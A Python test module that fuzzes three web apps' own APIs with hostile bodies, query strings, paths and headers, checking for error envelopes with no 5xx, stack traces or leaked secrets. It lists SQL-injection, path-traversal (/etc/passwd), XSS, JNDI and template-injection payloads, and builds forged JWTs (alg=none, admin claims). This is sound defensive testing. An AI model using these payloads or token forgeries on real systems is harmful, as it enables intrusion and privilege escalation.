"""Hostile input against all three apps: bodies, query strings, paths and headers.

Every response must be an envelope (or bodiless 204/304), never a 5xx, never a stack trace,
never a secret of the request. Most requests carry the fuzz user's valid token and each
comes from its own client address, so they reach validation and the handlers rather than
stopping at authentication or a rate limit; the last tests check exactly that, and that the
server still serves. Runs against the embedded run of each app; examples are bounded so
the whole contract suite stays within a few minutes on two cores.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

import httpx
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from tests.contract._api import (
    Account,
    Api,
    check_response,
    header_pairs,
    new_address,
    secret_like,
)
from tests.contract._fuzz_stats import STATS, FuzzStats
from tests.contract._servers import RunningServer

pytestmark = pytest.mark.contract_only(backend="embedded")

FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

HOSTILE = [
    "' OR '1'='1",
    "1; DROP TABLE users; --",
    "admin'--",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "%00",
    "\x00",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "-1",
    "0",
    "2147483648",
    "9" * 40,
    "1e309",
    "NaN",
    "Infinity",
    "true",
    "null",
    "[]",
    "{}",
    "\ud800",
    "A" * 5000,
    "ä" * 100,
    "-createdAt,name",
    "passwordHash",
]
INTERNALS = ("Traceback", 'File "/', "site-packages", "sqlalchemy.exc", "psycopg.", "django.db")

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
    | st.sampled_from(HOSTILE)
)
json_values = st.recursive(
    json_scalars,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)
FIELDS = ["email", "password", "name", "refreshToken", "role", "currentPassword", "admin", "id"]
shaped_bodies = st.fixed_dictionaries({}, optional=dict.fromkeys(FIELDS, json_values))


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


raw_bodies = st.one_of(
    shaped_bodies.map(_json),
    json_values.map(_json),
    st.binary(max_size=200),  # not JSON, often not UTF-8
    st.text(max_size=100).map(lambda text: text.encode("utf-8", "surrogatepass")),
    st.integers(100, 3000).map(lambda n: b"[" * n + b"]" * n),
    st.integers(100, 3000).map(lambda n: b'{"a":' * n + b"1" + b"}" * n),
    st.sampled_from([b"", b"{", b'{"email": "a@b.co", "password": ', b"\xff\xfe{}", b"[1,2,"]),
    st.just(b'{"name": "' + b"x" * 1_100_000 + b'"}'),  # over the 1 MiB cap
)
content_types = st.sampled_from(
    ["application/json"] * 6
    + ["application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded", ""]
)
header_text = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"),
    max_size=120,
)


@dataclass
class Target:
    """The app under fuzz, a logged-in user, and the app's histogram."""

    server: RunningServer
    api: Api
    user: Account
    stats: FuzzStats

    def send(
        self,
        method: str,
        path: str,
        *,
        body: bytes | None = None,
        headers: dict[str, str | bytes] | None = None,
        params: Any = None,
        authenticated: bool = True,
    ) -> httpx.Response:
        """Send one hostile request and check everything the contract promises about it."""
        all_headers: dict[str, str | bytes] = {"X-Forwarded-For": new_address()}
        if authenticated:
            all_headers["Authorization"] = f"Bearer {self.user.access}"
        all_headers.update(headers or {})
        response = self.api.http.request(
            method, path, content=body, headers=header_pairs(all_headers), params=params
        )
        sent = {self.user.access} | _secrets(body)
        check_response(response, sent, self.server.secrets.passwords)
        assert response.status_code < 500, response.text[:500]
        request_text = repr((path, params, body, headers))
        for marker in INTERNALS:
            if marker not in request_text:
                assert marker not in response.text, f"{marker!r} leaked"
        code = "OK" if response.status_code < 400 else response.json()["error"]["code"]
        self.stats.record(response.status_code, code, authenticated=authenticated)
        return response


def _secrets(body: bytes | None) -> set[str]:
    try:
        value = json.loads(body or b"")
    except (ValueError, RecursionError):
        return set()
    if not isinstance(value, dict):
        return set()
    names = ("password", "currentPassword", "refreshToken")
    return {v for k, v in value.items() if k in names and secret_like(v)}


@pytest.fixture(scope="module")
def target(server: RunningServer) -> Iterator[Target]:
    """The embedded run of each app, with a logged-in fuzz user."""
    with Api(server) as api:
        yield Target(server, api, api.new_user("Fuzz User"), STATS[server.name])


@FUZZ
@given(
    endpoint=st.sampled_from(
        [
            ("POST", "/api/v1/auth/register"),
            ("POST", "/api/v1/auth/login"),
            ("POST", "/api/v1/auth/refresh"),
            ("PUT", "/api/v1/users/{me}"),
        ]
    ),
    body=raw_bodies,
    content_type=content_types,
)
def test_hostile_bodies(
    target: Target, endpoint: tuple[str, str], body: bytes, content_type: str
) -> None:
    """Random JSON, wrong types, huge strings, deep nesting, invalid UTF-8, non-JSON."""
    method, path = endpoint
    headers: dict[str, str | bytes] = {"Content-Type": content_type} if content_type else {}
    target.send(method, path.format(me=target.user.id), body=body, headers=headers)


query_keys = st.sampled_from(
    [
        *("page", "perPage", "per_page", "sort", "cursor", "email", "role", "role[in]", "q"),
        *("q[search]", "name", "id", "passwordHash", "email[gt]", "role[null]", "a[b][c]"),
    ]
) | st.text(max_size=20)
query_values = (
    st.sampled_from([*HOSTILE, "1", "abc", "1.5", "createdAt", "-", ",", "name,name", ""])
    | st.integers(-(2**64), 2**64).map(str)
    | st.text(max_size=40)
)


@FUZZ
@given(params=st.lists(st.tuples(query_keys, query_values), max_size=5))
def test_hostile_query_strings(target: Target, params: list[tuple[str, str]]) -> None:
    """Negative, huge and non-numeric pages, unknown sorts and filters, SQL, traversal."""
    pairs = [(_utf8(k), _utf8(v)) for k, v in params]
    # gunicorn refuses request lines over 4094 bytes itself (a plain 414, before any app
    # code runs); the contract is about what the apps answer.
    assume(len(urlencode(pairs)) < 3500)
    target.send("GET", "/api/v1/users", params=pairs)


def _utf8(text: str) -> str:
    # A lone surrogate cannot travel in a URL: send the replacement character instead.
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


@FUZZ
@given(segment=st.sampled_from(HOSTILE) | st.text(min_size=1, max_size=60))
def test_hostile_paths(target: Target, segment: str) -> None:
    """Any text where a user id goes: 400, 404 or a user; never a 5xx."""
    encoded = quote(segment.encode("utf-8", "surrogatepass"), safe="")
    assume(len(encoded) < 3500)  # gunicorn's own 414 limit, as for query strings
    method = "GET" if len(segment) % 2 else "PUT"
    body = b'{"name": "Fuzz User"}' if method == "PUT" else None
    headers: dict[str, str | bytes] = {"Content-Type": "application/json"}
    target.send(method, f"/api/v1/users/{encoded}", body=body, headers=headers)


def _forgeries(token: str) -> list[str]:
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))

    def b64(obj: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()

    as_admin = b64({**claims, "sub": "1", "roles": ["admin"]})
    none_header = b64({"alg": "none", "typ": "JWT"})
    return [
        f"{header}.{as_admin}.{signature}",  # escalated claims, old signature
        f"{none_header}.{as_admin}.",  # alg=none
        f"{header}.{payload}.{signature[:-4]}AAAA",  # changed signature
        f"{header}.{payload}.{signature}=",  # non-canonical base64url
        f"{header}.{payload}",  # two segments
        token + "." + signature,  # four segments
    ]


@FUZZ
@given(
    auth=st.sampled_from(["VALID", "VALID", "VALID", "NONE", "FORGED"])
    | st.sampled_from(["Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Token abc", "Bearer a.b.c"])
    | header_text.map(lambda text: "Bearer " + text),
    forged=st.integers(0, 5),
    forwarded=st.none()
    | st.sampled_from(["1.2.3.4, 5.6.7.8", "unknown", "::1", "2001:db8::1", "999.1.1.1", ",,"])
    | header_text,
    request_id=st.none() | header_text | st.sampled_from(["<script>", "a" * 3000, "../../"]),
    path=st.sampled_from(["/api/v1/users/me", "/api/v1/users?perPage=3", "/health"]),
)
def test_hostile_headers(
    target: Target,
    auth: str,
    forged: int,
    forwarded: str | None,
    request_id: str | None,
    path: str,
) -> None:
    """Malformed Authorization, forged tokens, spoofed X-Forwarded-For, hostile request ids."""
    headers: dict[str, str | bytes] = {}
    authenticated = auth == "VALID"
    if auth == "FORGED":
        headers["Authorization"] = "Bearer " + _forgeries(target.user.access)[forged]
    elif auth not in ("VALID", "NONE"):
        headers["Authorization"] = _header(auth)
    if forwarded is not None:
        headers["X-Forwarded-For"] = _header(forwarded)
    if request_id is not None:
        headers["X-Request-ID"] = _header(request_id)
    response = target.send("GET", path, headers=headers, authenticated=authenticated)
    if auth == "FORGED" and path != "/health":
        assert response.status_code == 401
    if request_id is not None and response.headers["x-request-id"] != request_id:
        assert len(response.headers["x-request-id"]) <= 128


def _header(value: str) -> bytes:
    # HTTP forbids leading and trailing whitespace in a field value (h11 refuses to send it).
    return value.strip(" \t").encode("latin-1")


def test_fuzz_requests_got_past_auth_and_rate_limits(target: Target) -> None:
    """Most requests with a valid token reached validation and the handlers."""
    stats = target.stats
    assert stats.authenticated >= 100
    assert stats.gated <= stats.authenticated * 0.05, stats.lines(target.server.name)
    reached = sum(
        count
        for (status, code), count in stats.outcomes.items()
        if code not in ("UNAUTHENTICATED",)
    )
    assert reached > 0.6 * sum(stats.outcomes.values())


def test_the_server_still_serves_after_the_fuzz(target: Target) -> None:
    """Health is 200 and the fuzz user's token still works."""
    assert target.api.get("/health").status_code == 200
    me = target.api.get("/api/v1/users/me", token=target.user.access)
    assert me.status_code == 200
    assert me.json()["data"]["id"] == target.user.id
